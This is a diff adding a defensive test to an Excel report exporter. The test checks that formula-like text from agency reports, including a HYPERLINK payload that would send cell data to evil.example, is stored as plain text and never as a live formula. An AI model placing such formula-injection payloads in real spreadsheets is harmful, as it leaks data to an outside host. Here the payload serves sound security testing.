@@ -332,3 +332,21 @@ def test_the_command_refuses_an_unknown_round(tmp_path: Path) -> None:
     assert error.value.returncode == 1
     assert not (tmp_path / "out").exists()
 
+
+
+def test_the_workbook_writes_text_that_looks_like_a_formula_as_text(round_: ReportingRound) -> None:
+    """Task names, narratives and sources come from agencies' reports and imported schemes: each
+    is a text cell, never a formula, and reads back exactly."""
+    name, narrative, source = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+84 912 345 678", "@SUM(1,2)"
+    Task.objects.filter(code="CQS1", programme=round_.programme).update(name=name)
+    TaskReport.objects.filter(round=round_, task__code="CQS1").update(narrative=narrative)
+    TargetReport.objects.filter(round=round_, target__code="MT1").update(source=source)
+    workbook = load_workbook(io.BytesIO(documents.round_report_xlsx(round_)))
+    formulas = [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets for row in sheet.iter_rows()
+                for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    tasks = {row[0]: row for row in _sheet_rows(workbook["Nhiệm vụ"])}
+    assert (tasks["CQS1"][1], tasks["CQS1"][9]) == (name, narrative)
+    targets = {row[0]: row for row in _sheet_rows(workbook["Chỉ tiêu"])}
+    assert targets["MT1"][12] == source
+    assert isinstance(targets["MT1"][7], int)  # numbers stay numbers
